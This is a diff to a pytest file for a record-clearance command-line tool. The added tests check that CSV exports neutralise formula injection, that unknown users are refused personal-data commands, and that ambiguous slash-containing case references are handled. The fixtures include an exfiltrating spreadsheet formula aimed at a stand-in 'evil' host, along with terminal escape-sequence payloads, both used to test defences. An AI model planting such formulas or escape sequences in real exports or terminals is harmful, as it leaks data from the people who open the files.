@@ -54,6 +54,9 @@ ROWS = [
          first_name="Cy", **AUTOMATIC),
     dict(record_id="M1", case_number="MARKUP01", person_id="P8", offense_date="2013-05-01", last_name="Vo",
          first_name="Ed", **PETITION),
+    # "15CR/9/Q" reads two ways: case 15CR/9 person Q, or case 15CR person 9/Q
+    dict(record_id="A1", case_number="15CR/9", person_id="Q", offense_date="2015-05-01", **AUTOMATIC),
+    dict(record_id="A2", case_number="15CR", person_id="9/Q", offense_date="2015-05-01", **AUTOMATIC),
     dict(record_id="F1", case_number="=1+2", person_id="+P9", offense_date="2011-05-01", last_name="Wu",
          first_name="Di", **AUTOMATIC),
 ]
@@ -314,3 +317,122 @@ def test_item6_workstation_terminal_bytes_hold_no_data_controls(hostile_db):
     assert "\x1b]0;PWNED" not in text and "]0;PWNED\x07" not in text
     assert "\x9b" not in text and "\x9d" not in text
     assert "␛]0;PWNE" in text  # shown as pictures
+
+
+# -- item 7: formulas in CSV exports ---------------------------------------------------------------------
+def test_item7_csv_safe_prefixes_formula_starts():
+    assert csv_row(["=1+2", "+P9", "-3", -3, "@SUM(A1)", "\tx", "\rx", "ok", None, 7, "a=b", ""]) == [
+        "'=1+2", "'+P9", "'-3", "'-3", "'@SUM(A1)", "'\tx", "'\rx", "ok", "", "7", "a=b", ""]
+    assert csv_safe("'=already") == "'=already"  # a leading quote is not a formula start
+
+
+def _cells(path: Path) -> list[list[str]]:
+    with open(path, newline="", encoding="utf-8") as fh:
+        return list(csv.reader(fh))
+
+
+def _formula_cells(rows: list[list[str]]) -> list[str]:
+    return [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_item7_exports_neutralise_formulas(hostile_db, tmp_path):
+    code, text = run(hostile_db, "decide", "14CR7", "--person", SLASH_PERSON, "--exclude",
+                     '=HYPERLINK("http://evil/?"&A1,"click")')
+    assert code == 0, text
+    code, text = run(hostile_db, "decide", "=1+2", "--exclude", "-2+3 @x")
+    assert code == 0, text
+
+    dec = tmp_path / "decisions.csv"
+    code, text = run(hostile_db, "export", "decisions", "--out", str(dec))
+    assert code == 0, text
+    rows = _cells(dec)
+    assert not _formula_cells(rows), _formula_cells(rows)
+    (f1,) = [r for r in rows if r[0] == "F1"]
+    assert f1[1:3] == ["'+P9", "'=1+2"]
+
+    rev = tmp_path / "reviews.csv"
+    code, text = run(hostile_db, "export", "reviews", "--out", str(rev))
+    assert code == 0, text
+    rows = _cells(rev)
+    assert not _formula_cells(rows), _formula_cells(rows)
+    notes = {r[0]: r[5] for r in rows[1:]}
+    assert notes["14CR7"] == "'" + '=HYPERLINK("http://evil/?"&A1,"click")'
+    assert notes["'=1+2"] == "'-2+3 @x"
+
+
+def test_item7_every_csv_writer_neutralises_formulas():
+    """Every module of clearterm that writes CSV passes its cells through csv_row / csv_safe.
+
+    ``synth.py`` is the one exception: it writes canonical input records for ``ingest`` (data, not
+    a report), which must read back exactly as generated (docs/review.md)."""
+    root = Path(__file__).resolve().parents[1] / "clearterm"
+    writers = [p for p in root.rglob("*.py")
+               if "csv.writer(" in p.read_text(encoding="utf-8") or "DictWriter(" in p.read_text(encoding="utf-8")]
+    assert {p.name for p in writers} >= {"cli.py", "cli_review.py"}
+    for p in writers:
+        if p.name == "synth.py":
+            continue
+        src = p.read_text(encoding="utf-8")
+        assert "csv_row(" in src or "csv_safe(" in src, f"{p.relative_to(root.parent)} writes CSV without csv_row"
+
+
+# -- item 16: access and addressing ----------------------------------------------------------------------
+def test_item16_personal_data_commands_need_a_known_user(hostile_db, tmp_path):
+    from clearterm.storage.audit import verify_chain
+
+    def audit_rows() -> int:
+        with open_store(hostile_db, create=False) as s:
+            assert verify_chain(s.conn).ok
+            return s.scalar("SELECT count(*) FROM audit")
+
+    before = audit_rows()
+    out = tmp_path / "x.csv"
+    for args in (["queue"], ["explain", "H1"], ["quarantine"], ["export", "decisions", "--out", str(out)],
+                 ["export", "reviews", "--out", str(out)]):
+        code, text = run(hostile_db, *args, login="stranger")
+        assert code == 4, (args, text)
+        assert text.count("\n") == 1 and "'stranger' is not a clearterm user" in text, (args, text)
+        assert "13CR1" not in text and "P1" not in text
+        assert not out.exists(), args  # refused before the file is made
+    assert audit_rows() == before  # a refusal is not audited as a stranger's export
+    # a known user with no role (records staff) may read and export; the export names them
+    add_users(hostile_db, {"clerk": []})
+    code, text = run(hostile_db, "export", "reviews", "--out", str(out), login="clerk")
+    assert code == 0, text
+    with open_store(hostile_db, create=False) as s:
+        assert s.conn.execute("SELECT actor FROM audit ORDER BY seq DESC LIMIT 1").fetchone()[0] == "clerk"
+
+
+def test_item16_decide_addresses_a_person_id_holding_a_slash(hostile_db):
+    code, text = run(hostile_db, "decide", "14CR7/P/7", "--approve")
+    assert code == 0 and "case 14CR7/P/7" in text, text
+    code, text = run(hostile_db, "decide", "14CR7", "--person", "P/7", "--undo")
+    assert code == 0 and "undo" in text, text
+    code, text = run(hostile_db, "decide", "14CR7", "--person", "P/8", "--approve")
+    assert code == 2 and "no case 14CR7 for person P/8" in text, text
+    # a reference that reads two ways is refused, naming both; --person settles it
+    code, text = run(hostile_db, "decide", "15CR/9/Q", "--approve")
+    assert code == 2 and text.count("\n") == 1, text
+    assert "case 15CR/9 person Q" in text and "case 15CR person 9/Q" in text and "--person" in text
+    code, text = run(hostile_db, "decide", "15CR", "--person", "9/Q", "--approve")
+    assert code == 0 and "case 15CR/9/Q" in text, text
+    code, text = run(hostile_db, "decide", "15CR/9", "--person", "Q", "--approve")
+    assert code == 0 and "case 15CR/9/Q" in text, text
+    with open_store(hostile_db, create=False) as s:
+        got = s.conn.execute("SELECT case_number, person_id, action FROM reviews ORDER BY id").fetchall()
+    assert got == [("14CR7", "P/7", "approve"), ("14CR7", "P/7", "undo"), ("15CR", "9/Q", "approve"),
+                   ("15CR/9", "Q", "approve")]
+
+
+def test_item16_resolve_case_tries_every_slash(hostile_db):
+    from clearterm import review
+
+    with open_store(hostile_db, create=False) as s:
+        assert review.resolve_case(s.conn, "14CR7/P/7").person_id == "P/7"
+        assert review.resolve_case(s.conn, "14CR7", "P/7").person_id == "P/7"
+        assert review.resolve_case(s.conn, "15CR/9").person_id == "Q"  # the whole text is a case number
+        with pytest.raises(review.AmbiguousReference) as ei:
+            review.resolve_case(s.conn, "15CR/9/Q")
+        assert {(c.case_number, c.person_id) for c in ei.value.cases} == {("15CR/9", "Q"), ("15CR", "9/Q")}
+        with pytest.raises(review.CaseNotFound):
+            review.resolve_case(s.conn, "14CR7/P/8")
